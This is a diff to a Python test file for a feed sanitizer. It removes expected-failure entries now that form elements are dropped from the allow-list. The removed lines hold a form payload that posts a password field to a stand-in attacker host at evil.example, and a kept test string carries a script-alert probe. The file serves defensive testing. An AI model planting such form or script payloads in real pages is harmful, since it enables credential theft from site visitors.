@@ -99,14 +99,9 @@ VECTORS = {
 # The plain-text Atom content of H04: shown as text, never interpreted.
 PLAIN = '<b>bold</b> & ]]> </content> <script>alert(1)</script>'
 
-# Vectors that still get through, per check, with the surviving output.
-XFAIL_DELIVERY = {
-    "form_action": "<form> is on the feedparser allow-list: '<form action=\"\">"
-                   "<input type=\"submit\" /></form><form action=\"http://evil.example/steal\" "
-                   "method=\"post\"><input name=\"pw\" /></form>'",
-    "table_form": "<form> is on the feedparser allow-list: '<table><form><tr><td>"
-                  "<form action=\"\"><input /></form></td></tr></form></table>'",
-}
+# Vectors that still get through, per check, with the surviving output
+# (none: <form> and its controls were the last, now dropped).
+XFAIL_DELIVERY = {}
 XFAIL_BASELESS = {}
 XFAIL_FIXPOINT = {}
 
